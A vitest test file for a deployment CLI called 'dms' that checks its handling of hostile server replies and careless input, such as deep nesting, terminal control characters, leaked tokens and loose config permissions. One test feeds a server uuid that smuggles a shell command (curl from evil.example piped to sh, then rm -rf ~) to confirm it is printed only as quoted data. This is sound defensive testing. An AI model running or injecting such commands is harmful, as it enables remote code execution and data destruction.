// The built binary against hostile answers and careless input (issue 17): records nested deeper
// than any recursion, pages far larger than asked, a uuid that is a shell command, control
// characters in JSON, a base URL with a query, a token in the wrong place or with characters a
// header cannot carry, a config file others can change, a 422 naming `__proto__`.
import { chmodSync, chownSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { json, serversClosedAfterEach, type Handler, type HostileServer } from '../support/hostile.js';
import { runBin, tempConfigDir, type BinResult } from '../support/run-bin.js';
import { tempDir } from '../support/temp.js';

const serve = serversClosedAfterEach(afterEach);

const SECRET = 'Zq7vK2mXw9PbT4rLh8YcN3sJd6FgA1eUo5iRt0WkQ';
const TOKEN = `17|${SECRET}`;
const APP = 'app-1';
const TOO_DEEP = '[nested too deep]';

const envOf = (s: HostileServer, extra: Record<string, string> = {}) => ({ DMS_URL: `${s.url}/api/v1`, DMS_TOKEN: TOKEN, ...extra });

/** Nothing printed holds the token's secret, nor a good part of it (a message may cut a value short). */
function expectNoSecret(r: BinResult, secret = SECRET): void {
  const part = secret.slice(0, Math.min(secret.length, 8));
  expect(r.stdout).not.toContain(part);
  expect(r.stderr).not.toContain(part);
}

/** Lists `rows` (given as JSON text) for any GET. */
const listing =
  (text: string): Handler =>
  (_req, res) => {
    res.writeHead(200, { 'content-type': 'application/json', 'content-length': Buffer.byteLength(text) });
    res.end(text);
  };

function bodyFile(content: string): string {
  const path = join(tempDir('dms-edges-'), 'body.json');
  writeFileSync(path, content);
  return path;
}

const APP_BODY = {
  project_uuid: 'p1',
  server_uuid: 's1',
  environment_name: 'production',
  git_repository: 'https://github.com/acme/web',
  git_branch: 'main',
  build_pack: 'nixpacks',
};

describe.each([5_000, 100_000])('a record with %i nested arrays', (depth) => {
  const page = `[{"id":1,"status":"finished","commit":"abc1234","x":${'['.repeat(depth)}"https://u:pw@h/"${']'.repeat(depth)}}]`;

  it.each([
    [['--json']],
    [['-o', 'ndjson']],
    [['--json', '--show-secrets']],
    [['-o', 'table']],
    [['-o', 'csv']],
    [['--all', '-o', 'ndjson']],
  ])('dms deployments %j prints it, deep parts as a placeholder, exit 0', async (args) => {
    const s = await serve(listing(page));
    const r = await runBin(['deployments', APP, ...args], { env: envOf(s) });
    expect(r.stderr).not.toMatch(/Maximum call stack|internal error/);
    expect(r.code).toBe(0);
    if (args.includes('--json') || args.includes('ndjson')) {
      expect(r.stdout).toContain(TOO_DEEP);
      const text = args.includes('ndjson') ? r.stdout.trim().split('\n')[0]! : r.stdout;
      expect(() => JSON.parse(text)).not.toThrow();
    } else {
      expect(r.stdout).toMatch(/finished/);
    }
  });

  it('dms create app --json prints a 201 answer that deep, exit 0', async () => {
    const s = await serve(json(201, `{"uuid":"abc-1","extra":${'['.repeat(depth)}${']'.repeat(depth)}}`));
    const r = await runBin(['create', 'app', '--file', bodyFile(JSON.stringify(APP_BODY)), '--json'], { env: envOf(s) });
    expect(r.stderr).not.toMatch(/Maximum call stack|internal error/);
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout)).toMatchObject({ uuid: 'abc-1' });
    expect(r.stdout).toContain(TOO_DEEP);
  });
});

describe('130,000 empty records (a server that ignores take)', () => {
  const page = `[${Array.from({ length: 130_000 }, () => '{}').join(',')}]`;

  it.each([[['-o', 'table']], [['--json']], [['-o', 'csv']], [['-o', 'ndjson']]])(
    'dms deployments %j prints every row, exit 0',
    async (args) => {
      const s = await serve(listing(page));
      const r = await runBin(['deployments', APP, ...args], { env: envOf(s), timeoutMs: 30_000 });
      expect(r.stderr).not.toMatch(/Maximum call stack|internal error/);
      expect(r.code).toBe(0);
      if (args.includes('table')) expect(r.stdout.endsWith('\nshowing 1–130,000 (the server sends no total)\n')).toBe(true);
      if (args.includes('--json')) expect(JSON.parse(r.stdout)).toHaveLength(130_000);
      if (args.includes('csv')) expect(r.stdout.trim().split('\r\n')).toHaveLength(130_001);
      if (args.includes('ndjson')) expect(r.stdout.trim().split('\n')).toHaveLength(130_000);
    },
  );
});

describe('a uuid from the server in a suggested command', () => {
  const create = async (uuid: string) => {
    const s = await serve(json(201, { uuid }));
    return runBin(['create', 'app', '--file', bodyFile(JSON.stringify(APP_BODY))], { env: envOf(s) });
  };

  it('a plain uuid is suggested as a command', async () => {
    const r = await create('3f0c2a9e-7b1d-4c8e-9a41-5d2e8b6f1c07');
    expect(r.code).toBe(0);
    expect(r.stdout).toBe('uuid: 3f0c2a9e-7b1d-4c8e-9a41-5d2e8b6f1c07\n');
    expect(r.stderr).toBe('Follow it: dms deployments 3f0c2a9e-7b1d-4c8e-9a41-5d2e8b6f1c07\n');
  });

  it.each(['x$(curl https://evil.example/x|sh) ; rm -rf ~ #', '`id`', '-rf', 'abc\u001b]0;title\u0007'])(
    '%j is printed quoted as data and no command is suggested',
    async (uuid) => {
      const r = await create(uuid);
      expect(r.code).toBe(0);
      expect(r.stderr).not.toMatch(/Follow it|dms deployments/);
      expect(r.stderr).toMatch(/not a plain id/);
      const shown = /^uuid: (.*)$/m.exec(r.stdout)![1]!;
      expect(JSON.parse(shown)).toBe(uuid);
      expect(r.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    },
  );
});

describe('control characters in JSON output are escaped', () => {
  const NASTY = 'a\u009b31mb\u009d0;title\u0007c\u202ed\u200be\u061cf\ufeffg\u2028h';
  const RAW = /[\u007f-\u009f\u061c\u200b\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]/;

  it.each([[['--json']], [['-o', 'ndjson']], [['--json', '--show-secrets']]])('dms deployments %j', async (args) => {
    const s = await serve(json(200, [{ id: 1, status: 'finished', commit_message: NASTY, [NASTY]: NASTY }]));
    const r = await runBin(['deployments', APP, ...args], { env: envOf(s) });
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(RAW);
    const record = (args.includes('ndjson') ? JSON.parse(r.stdout) : JSON.parse(r.stdout)[0]) as Record<string, unknown>;
    expect(record.commit_message).toBe(NASTY);
  });

  it('dms create app --json', async () => {
    const s = await serve(json(201, { uuid: 'abc-1', domains: NASTY }));
    const r = await runBin(['create', 'app', '--file', bodyFile(JSON.stringify(APP_BODY)), '--json'], { env: envOf(s) });
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(RAW);
    expect(JSON.parse(r.stdout)).toEqual({ uuid: 'abc-1', domains: NASTY });
  });

  it('dms context list shows no raw controls from a hand-edited URL', async () => {
    const dir = tempConfigDir();
    writeFileSync(
      join(dir, 'config.json'),
      JSON.stringify({ current: 'x', contexts: { x: { url: `https://h/${NASTY}`, token: TOKEN } } }),
      { mode: 0o600 },
    );
    const r = await runBin(['context', 'list'], { env: { DMS_CONFIG_DIR: dir } });
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(RAW);
    expectNoSecret(r);
  });
});

describe('a request body that is not JSON', () => {
  const TEXT = '\u001b[31mnot json\u001b]0;pwned\u0007\u009b2J';

  it('from a file: the parse error is one clean line, exit 2, nothing sent', async () => {
    const s = await serve(json(201, { uuid: 'x' }));
    const r = await runBin(['create', 'app', '--file', bodyFile(TEXT)], { env: envOf(s) });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/is not valid JSON/);
    expect(r.stderr).not.toMatch(/[\u001b\u0007\u009b]/);
    expect(s.total()).toBe(0);
  });

  it('from standard input likewise', async () => {
    const s = await serve(json(201, { uuid: 'x' }));
    const r = await runBin(['create', 'app', '--file', '-'], { env: envOf(s), input: TEXT });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^dms: standard input is not valid JSON/);
    expect(r.stderr).not.toMatch(/[\u001b\u0007\u009b]/);
  });
});

describe('a base URL with a query or a fragment', () => {
  it.each([
    ['?x=1', /must not hold a query \(the part from "\?"\): remove it/],
    ['?', /must not hold a query/],
    ['#frag', /must not hold a fragment \(the part from "#"\): remove it/],
  ])('%s in DMS_URL or --url is refused before anything is sent, exit 2', async (tail, message) => {
    const s = await serve(json(200, []));
    const fromEnv = await runBin(['deployments', APP], { env: { DMS_URL: `${s.url}/api/v1${tail}`, DMS_TOKEN: TOKEN } });
    expect(fromEnv.code).toBe(2);
    expect(fromEnv.stderr).toMatch(message);
    const fromFlags = await runBin([
      '--url',
      `${s.url}/api/v1${tail}`,
      '--token',
      TOKEN,
      'create',
      'docstore',
      '--file',
      bodyFile('{"project_uuid":"p","server_uuid":"s","environment_name":"e"}'),
      '--discard-credentials',
    ]);
    expect(fromFlags.code).toBe(2);
    expect(fromFlags.stderr).toMatch(message);
    expect(s.total()).toBe(0);
    expectNoSecret(fromFlags);
  });

  it('dms context add refuses it (before asking for the token), exit 2', async () => {
    const dir = tempConfigDir();
    const r = await runBin(['context', 'add', 'prod', '--url', 'https://h.example/api/v1?x=1'], {
      env: { DMS_CONFIG_DIR: dir },
      input: `${TOKEN}\n`,
    });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/must not hold a query/);
  });
});

describe('a token in the wrong place is never echoed', () => {
  it.each([
    [['--tokn', TOKEN, 'deployments', APP], /^dms: unknown option --tokn; did you mean --token\? Run dms --help\.\n$/],
    [[`--tokn=${TOKEN}`, 'deployments', APP], /^dms: unknown option --tokn; did you mean --token\?/],
    [['deployments', APP, '--tokn', TOKEN], /^dms: unknown option --tokn; did you mean --token\? Run dms deployments --help/],
    [['logs', APP, '--all', TOKEN], /^dms: --all is not an option of dms logs/],
    [[TOKEN], /^dms: the first argument is not a command; it is not repeated here/],
    [['deploymnets', APP], /^dms: the first argument is not a command \(did you mean deployments\?\)/],
    [['deployments', APP, TOKEN], /^dms: one argument too many: dms deployments takes one APP_UUID \(the 2nd argument/],
    [['browse', APP, TOKEN], /^dms: one argument too many: dms browse/],
    [['create', TOKEN], /^dms: say what to create/],
    [['create', 'app', TOKEN], /^dms: one argument too many/],
    [['create', 'app', '--file', TOKEN], /^dms: the body file does not exist/],
    [['deployments', APP, '--take', TOKEN], /^dms: --take must be a whole number of at least 1\.$/m],
    [['deployments', APP, '--status', TOKEN], /^dms: --status takes .*\(comma-separated\)\.$/m],
    [['deployments', APP, '--since', TOKEN], /^dms: --since takes a time such as/],
    [['deployments', APP, '-o', TOKEN], /^dms: -o\/--output takes table, json, ndjson, csv\.$/m],
    [['--timeout', TOKEN, 'deployments', APP], /^dms: --timeout must be a number of seconds between 0 and 3600\.$/m],
    [[`--json=${TOKEN}`, 'deployments', APP], /^dms: --json takes no value/],
    [
      ['--token', `-${SECRET}`, 'deployments', APP],
      /^dms: --token: a value that starts with '-' is taken for an option \(write --token=VALUE/,
    ],
    [
      ['--context', TOKEN, 'deployments', APP],
      /^dms: --context: no context by the name given \(not repeated here, in case it is a secret\)/,
    ],
  ])('dms %j: one line naming what is wrong, exit 2', async (args, message) => {
    const s = await serve(json(200, []));
    // A token in the environment too: the connection is fine, only the arguments are wrong.
    const r = await runBin(args, { env: { DMS_URL: `${s.url}/api/v1`, DMS_TOKEN: '1|env-token' } });
    expect(r.stderr).toMatch(message);
    expect(r.code).toBe(2);
    expectNoSecret(r);
    expect(s.total()).toBe(0);
  });

  it('a plain mistyped value is still repeated', async () => {
    const r = await runBin(['deployments', APP, '--take', 'ten', '-o', 'yaml'], {
      env: { DMS_URL: 'http://127.0.0.1:9/api/v1', DMS_TOKEN: TOKEN },
    });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/--take must be a whole number of at least 1, not 'ten'/);
  });
});

describe('tokens are checked before anything is sent', () => {
  it.each([
    ['a letter outside ASCII', '17|sécret', /the token contains characters a header cannot carry \(only printable ASCII, no spaces\)/],
    ['a typographic dash', '17|abc\u2013def', /characters a header cannot carry/],
    ['U+0085 (next line)', '17|abc\u0085def', /one line with no spaces or control characters/],
    ['a no-break space', '17|abc\u00a0def', /one line with no spaces or control characters/],
  ])('%s in DMS_TOKEN or --token: one line, exit 2, the token not echoed', async (_name, token, message) => {
    const s = await serve(json(200, []));
    const secret = token.slice(3);
    const fromEnv = await runBin(['deployments', APP], { env: { DMS_URL: `${s.url}/api/v1`, DMS_TOKEN: token } });
    expect(fromEnv.code).toBe(2);
    expect(fromEnv.stderr).toMatch(message);
    expect(fromEnv.stderr.trim().split('\n')).toHaveLength(1);
    expectNoSecret(fromEnv, secret);
    const fromFlag = await runBin(['--url', `${s.url}/api/v1`, '--token', token, 'deployments', APP]);
    expect(fromFlag.code).toBe(2);
    expect(fromFlag.stderr).toMatch(message);
    expectNoSecret(fromFlag, secret);
    expect(s.total()).toBe(0);
  });

  it('in a saved context: refused, exit 2, with how to fix it', async () => {
    const s = await serve(json(200, []));
    const dir = tempConfigDir();
    writeFileSync(
      join(dir, 'config.json'),
      JSON.stringify({ current: 'prod', contexts: { prod: { url: `${s.url}/api/v1`, token: '17|sécret' } } }),
      { mode: 0o600 },
    );
    const r = await runBin(['deployments', APP], { env: { DMS_CONFIG_DIR: dir } });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/context "prod" in config\.json: the token contains characters a header cannot carry.*dms context add prod/);
    expectNoSecret(r, 'sécret');
    expect(s.total()).toBe(0);
  });

  it('dms context add: refused, nothing saved, exit 2', async () => {
    const dir = tempConfigDir();
    const r = await runBin(['context', 'add', 'prod', '--url', 'https://h.example/api/v1'], {
      env: { DMS_CONFIG_DIR: dir },
      input: '17|sécret\n',
    });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/characters a header cannot carry/);
    expectNoSecret(r, 'sécret');
    expect((await runBin(['context', 'list'], { env: { DMS_CONFIG_DIR: dir } })).stderr).toMatch(/no contexts yet/);
  });
});

describe('config.json that others can change', () => {
  /** A config folder with a current context pointing at `s`, the folder and file at these modes. */
  function config(s: HostileServer, dirMode: number, fileMode: number): string {
    const dir = join(tempConfigDir(), 'dms');
    mkdirSync(dir);
    const path = join(dir, 'config.json');
    writeFileSync(path, JSON.stringify({ current: 'prod', contexts: { prod: { url: `${s.url}/api/v1`, token: TOKEN } } }));
    chmodSync(path, fileMode);
    chmodSync(dir, dirMode);
    return dir;
  }

  it('a 0622 file in a 0777 folder: one warning each, saying "changed", and how to fix it', async () => {
    const s = await serve(json(200, []));
    const dir = config(s, 0o777, 0o622);
    const r = await runBin(['deployments', APP], { env: { DMS_CONFIG_DIR: dir } });
    expect(r.code).toBe(0);
    const warnings = r.stderr.split('\n').filter((l) => l.startsWith('dms: warning:'));
    expect(warnings).toEqual([
      expect.stringMatching(
        /config\.json can be changed by other users \(mode 0622\): whoever writes it can send your token to a server of theirs; run: chmod 600 .*config\.json$/,
      ),
      expect.stringMatching(/the folder .*dms can be changed by other users \(mode 0777\): they can replace config\.json; run: chmod 700 /),
    ]);
    expectNoSecret(r);
  });

  it('a 0666 file says read and changed; a 0644 file only read', async () => {
    const s = await serve(json(200, []));
    const loose = await runBin(['context', 'list'], { env: { DMS_CONFIG_DIR: config(s, 0o700, 0o666) } });
    expect(loose.stderr).toMatch(/can be read and changed by other users \(mode 0666\)/);
    const readable = await runBin(['context', 'list'], { env: { DMS_CONFIG_DIR: config(s, 0o700, 0o644) } });
    expect(readable.stderr).toMatch(/can be read by other users \(mode 0644\); run: chmod 600/);
    expect(readable.stderr).not.toMatch(/changed/);
  });

  it.skipIf(process.getuid?.() !== 0)('one owned by another user is refused: exit 2, nothing sent, what to do', async () => {
    const s = await serve(json(200, []));
    const dir = config(s, 0o755, 0o600);
    chownSync(join(dir, 'config.json'), 65534, 65534); // nobody
    const r = await runBin(['deployments', APP], { env: { DMS_CONFIG_DIR: dir } });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(
      /config\.json belongs to another user \(uid 65534\).*dms does not use it\. If it is yours, run: chown \$\(id -u\) /,
    );
    expect(s.total()).toBe(0);
    const list = await runBin(['context', 'list'], { env: { DMS_CONFIG_DIR: dir } });
    expect(list.code).toBe(2);
    expect(list.stdout).toBe('');
  });

  it.skipIf(process.getuid?.() !== 0)('a folder owned by another user: a warning', async () => {
    const s = await serve(json(200, []));
    const dir = config(s, 0o755, 0o600);
    chownSync(dir, 65534, 65534);
    const r = await runBin(['deployments', APP], { env: { DMS_CONFIG_DIR: dir } });
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/dms: warning: the folder .* belongs to another user \(uid 65534\), who can replace config\.json/);
  });
});

describe('a 422 naming prototype fields', () => {
  it('lists every field, __proto__ and constructor included, exit 5', async () => {
    const s = await serve(
      json(
        422,
        '{"message":"Validation failed.","errors":{"__proto__":["proto is bad."],"constructor":"ctor is bad.","name":["name is bad."]}}',
      ),
    );
    const r = await runBin(['create', 'app', '--file', bodyFile(JSON.stringify(APP_BODY))], { env: envOf(s) });
    expect(r.code).toBe(5);
    expect(r.stderr).toMatch(/^ {2}__proto__: proto is bad\.$/m);
    expect(r.stderr).toMatch(/^ {2}constructor: ctor is bad\.$/m);
    expect(r.stderr).toMatch(/^ {2}name: name is bad\.$/m);
  });
});

describe('a deployment of HEAD without a commit message', () => {
  it('reads HEAD and — in the table (not an empty cell); the CSV keeps the subject empty', async () => {
    const rows = [
      { id: 2, status: 'finished', commit: 'HEAD', commit_message: null, created_at: '2026-01-01T10:00:00Z' },
      { id: 1, status: 'finished', commit: 'a'.repeat(40), commit_message: 'fix: the thing\n\nbody', created_at: '2026-01-01T09:00:00Z' },
    ];
    const s = await serve(json(200, rows));
    const table = await runBin(['deployments', APP], { env: envOf(s) });
    expect(table.code).toBe(0);
    expect(table.stdout).toMatch(/^✓ finished\s+HEAD\s+—\s+.*\b2$/m);
    expect(table.stdout).toMatch(/^✓ finished\s+aaaaaaa\s+fix: the thing\s+.*\b1$/m);
    const csv = await runBin(['deployments', APP, '-o', 'csv'], { env: envOf(s) });
    expect(csv.stdout.split('\r\n')[1]).toMatch(/^finished,,HEAD,,/);
  });
});
